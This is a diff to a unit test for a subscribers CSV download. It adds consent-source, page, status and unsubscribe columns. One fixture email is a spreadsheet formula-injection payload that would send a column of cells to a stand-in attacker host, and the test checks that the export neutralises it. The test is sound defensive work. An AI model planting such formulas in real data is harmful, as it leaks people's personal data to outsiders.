@@ -45,13 +45,29 @@ describe('toCsv', () => {
 describe('the subscribers download', () => {
   it('is email,subscribed_at, with every cell neutralised and quoted', () => {
     const csv = subscribersCsv([
-      { id: '1', email: 'parent@example.com.au', created_at: '2026-11-24T01:02:03Z' },
-      { id: '2', email: '=IMAGE("https://evil.example/?"&JOIN(",",A2:A99))', created_at: '2026-11-24T04:05:06Z' },
+      {
+        id: '1',
+        email: 'parent@example.com.au',
+        created_at: '2026-11-24T01:02:03Z',
+        consent_at: '2026-11-24T01:02:03Z',
+        consent_source: 'Website sign-up form',
+        consent_page: '/blog',
+        unsubscribed_at: null,
+      },
+      {
+        id: '2',
+        email: '=IMAGE("https://evil.example/?"&JOIN(",",A2:A99))',
+        created_at: '2026-11-24T04:05:06Z',
+        consent_at: '2026-11-24T04:05:06Z',
+        consent_source: 'Website sign-up form (page not recorded)',
+        consent_page: null,
+        unsubscribed_at: '2026-11-25T00:00:00Z',
+      },
     ]);
     expect(csv.split('\r\n')).toEqual([
-      '"email","subscribed_at"',
-      '"parent@example.com.au","2026-11-24T01:02:03Z"',
-      `"'=IMAGE(""https://evil.example/?""&JOIN("","",A2:A99))","2026-11-24T04:05:06Z"`,
+      '"email","subscribed_at","consent_source","consent_page","status","unsubscribed_at"',
+      '"parent@example.com.au","2026-11-24T01:02:03Z","Website sign-up form","/blog","subscribed",""',
+      `"'=IMAGE(""https://evil.example/?""&JOIN("","",A2:A99))","2026-11-24T04:05:06Z","Website sign-up form (page not recorded)","","unsubscribed","2026-11-25T00:00:00Z"`,
       '',
     ]);
   });
